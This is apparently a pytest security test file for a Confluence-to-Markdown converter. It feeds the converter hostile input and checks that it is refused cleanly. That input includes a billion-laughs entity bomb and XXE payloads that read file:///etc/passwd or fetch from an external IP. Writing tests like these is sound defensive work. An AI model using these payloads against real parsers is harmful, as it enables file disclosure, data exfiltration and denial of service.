"""Hostile input: entity bombs, external entities, huge and deep bodies, bad bytes.

Each case must end quickly with a clear ConversionError (or a safe conversion), never a
crash, a RecursionError, entity expansion or a network access. No timing asserts: the
behaviour is what is checked.
"""

from __future__ import annotations

import socket
from typing import Any

import pytest

from radex.confluence.markdown import markdown_to_storage
from radex.confluence.storage import ConvertContext, storage_to_markdown
from radex.errors import ConversionError

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    "]><p>&lol9;</p>"
)


@pytest.fixture
def no_sockets(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    attempts: list[Any] = []

    def refuse(self: socket.socket, address: Any) -> None:
        attempts.append(address)
        raise OSError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def test_billion_laughs_is_refused_without_expansion() -> None:
    with pytest.raises(ConversionError, match="DTD"):
        storage_to_markdown(BILLION_LAUGHS)


def test_entity_declaration_after_content_is_refused() -> None:
    with pytest.raises(ConversionError, match="entity declaration"):
        storage_to_markdown('<p>x</p><!ENTITY a "b"><p>&a;</p>')


def test_external_entity_is_refused_and_nothing_is_fetched(no_sockets: list[Any]) -> None:
    for body in (
        '<!DOCTYPE p [<!ENTITY xxe SYSTEM "http://198.51.100.7/secret">]><p>&xxe;</p>',
        '<!DOCTYPE p SYSTEM "http://198.51.100.7/evil.dtd"><p>x</p>',
        '<!DOCTYPE p [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><p>&xxe;</p>',
    ):
        with pytest.raises(ConversionError):
            storage_to_markdown(body)
    assert no_sockets == []


def test_undeclared_entity_reference_stays_text() -> None:
    out = storage_to_markdown("<p>&xxe; &#0; &#x110000;</p>").markdown
    assert "xxe" in out
    assert "\x00" not in out


def test_doctype_inside_cdata_is_just_code() -> None:
    body = (
        '<ac:structured-macro ac:name="code"><ac:plain-text-body>'
        "<![CDATA[<!DOCTYPE html>\n<html>&nbsp;</html>]]>"
        "</ac:plain-text-body></ac:structured-macro>"
    )
    assert storage_to_markdown(body).markdown == "```\n<!DOCTYPE html>\n<html>&nbsp;</html>\n```\n"


def test_fifty_megabyte_body_is_refused_with_a_clear_error() -> None:
    body = "<p>" + "a" * (50 * 1024 * 1024) + "</p>"
    with pytest.raises(ConversionError, match="more than the limit") as info:
        storage_to_markdown(body)
    assert info.value.hint
    assert "max_body_chars" in info.value.hint


def test_body_limit_can_be_raised_for_trusted_input() -> None:
    body = "<p>" + "word " * 300_000 + "</p>"
    ctx = ConvertContext(max_body_chars=len(body))
    assert storage_to_markdown(body, context=ctx).markdown.startswith("word word")
    with pytest.raises(ConversionError):
        storage_to_markdown(body, context=ConvertContext(max_body_chars=len(body) - 1))


def test_ten_thousand_deep_nesting_is_a_clear_error() -> None:
    body = "<div>" * 10_000 + "x" + "</div>" * 10_000
    with pytest.raises(ConversionError, match="deeper than"):
        storage_to_markdown(body)


def test_ten_thousand_deep_unclosed_nesting_is_a_clear_error() -> None:
    with pytest.raises(ConversionError, match="deeper than"):
        storage_to_markdown("<blockquote>" * 10_000)


def test_deep_but_parseable_nesting_is_flattened_not_a_recursion_error() -> None:
    for tag in ("div", "blockquote", "ul><li", "strong", "span", "table><tr><td"):
        opening = "".join(f"<{t}>" for t in tag.split("><"))
        closing = "".join(f"</{t}>" for t in reversed(tag.split("><")))
        depth = 250 // len(tag.split("><"))
        body = opening * depth + "deep words" + closing * depth
        result = storage_to_markdown(body)
        assert "deep words" in result.markdown, tag


def test_invalid_utf8_bytes_are_a_clear_error() -> None:
    with pytest.raises(ConversionError, match="not valid UTF-8"):
        storage_to_markdown(b"<p>caf\xe9</p>")


def test_lone_surrogates_are_a_clear_error() -> None:
    text = b"<p>caf\xe9</p>".decode("utf-8", "surrogateescape")
    with pytest.raises(ConversionError, match="surrogate"):
        storage_to_markdown(text)


def test_control_characters_are_removed_with_a_warning() -> None:
    result = storage_to_markdown("<p>a\x00b\x08c\x1fd</p>")
    assert result.markdown == "abcd\n"
    assert result.report.warnings


def test_malformed_body_is_recovered_and_reported() -> None:
    result = storage_to_markdown("<p>one<br>two<p>three &amp; <b>four</p>")
    assert "one" in result.markdown
    assert "four" in result.markdown
    assert result.report.recovered
    assert any("recovered" in w for w in result.report.warnings)


def test_malformed_body_keeps_confluence_elements_and_cdata() -> None:
    body = (
        '<p>text<br></p><ac:structured-macro ac:name="code"><ac:plain-text-body>'
        "<![CDATA[a < b]]></ac:plain-text-body></ac:structured-macro>"
        '<ac:structured-macro ac:name="info"><ac:rich-text-body><p>inside</ac:rich-text-body>'
        "</ac:structured-macro>"
    )
    result = storage_to_markdown(body)
    assert result.report.recovered
    assert "```\na < b\n```" in result.markdown
    assert "> [!INFO]" in result.markdown
    assert "inside" in result.markdown


def test_many_elements_complete() -> None:
    body = "<p>" + "<b>x</b>" * 200_000 + "</p>"
    assert storage_to_markdown(body).markdown.startswith("**x")


def test_pathological_markdown_completes() -> None:
    for source in ("*" * 100_000, "[" * 50_000 + "]" * 50_000, "> " * 5_000 + "deep", "- " * 5_000):
        storage = markdown_to_storage(source)
        assert storage_to_markdown(storage) is not None


def test_huge_markdown_is_refused() -> None:
    with pytest.raises(ConversionError, match="more than the limit"):
        markdown_to_storage("a" * (50 * 1024 * 1024))


def test_bad_flavor_is_a_conversion_error() -> None:
    with pytest.raises(ConversionError):
        storage_to_markdown("<p>x</p>", flavor="server")  # type: ignore[arg-type]


def test_body_cut_off_inside_a_tag_name_is_recovered() -> None:
    result = storage_to_markdown("<p>unclosed <ac:link><ri:page")
    assert "unclosed" in result.markdown
    assert result.report.recovered
